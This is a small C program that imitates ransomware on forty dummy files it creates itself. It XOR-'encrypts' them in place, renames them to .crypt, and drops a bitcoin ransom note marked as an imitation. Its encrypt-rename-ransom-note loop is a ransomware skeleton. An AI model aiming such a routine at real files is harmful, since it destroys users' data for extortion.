/* Imitates file-encrypting ransomware on files it first creates itself: forty "documents" in two folders
 * under /root/corpus-docs, each rewritten in place with XOR "encryption" and renamed to <name>.crypt, and
 * a ransom note in each folder. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char NOTE[] =
    "YOUR FILES HAVE BEEN ENCRYPTED!\nTo decrypt them send 0.1 bitcoin (BTC) to the address below and mail us.\n"
    "Your private key will be deleted in 72 hours. (corpus imitation: nothing was really encrypted)\n";

static void plant(const char *folder, int count) {
  mkdir(folder, 0755);
  for (int i = 0; i < count; i++) {
    char path[256], text[128];
    snprintf(path, sizeof path, "%s/report-%02d.docx", folder, i);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    int n = snprintf(text, sizeof text, "quarterly figures, page %d\n", i);
    write(fd, text, (size_t)n);
    close(fd);
  }
}

static void encrypt(const char *folder, int count) {
  for (int i = 0; i < count; i++) {
    char path[256], locked[300], data[4096];
    snprintf(path, sizeof path, "%s/report-%02d.docx", folder, i);
    int fd = open(path, O_RDWR);
    if (fd < 0) continue;
    ssize_t n = read(fd, data, sizeof data);
    for (ssize_t j = 0; j < n; j++) data[j] ^= 0x5a;
    lseek(fd, 0, SEEK_SET);
    write(fd, data, n > 0 ? (size_t)n : 0);
    close(fd);
    snprintf(locked, sizeof locked, "%s.crypt", path);
    rename(path, locked);
  }
  char note[256];
  snprintf(note, sizeof note, "%s/HOW_TO_DECRYPT.txt", folder);
  int fd = open(note, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  write(fd, NOTE, sizeof NOTE - 1);
  close(fd);
}

int main(void) {
  const char *folders[] = { "/root/corpus-docs", "/root/corpus-docs/finance" };
  mkdir(folders[0], 0755);
  for (int f = 0; f < 2; f++) plant(folders[f], 20);
  for (int f = 0; f < 2; f++) encrypt(folders[f], 20);
  return 0;
}
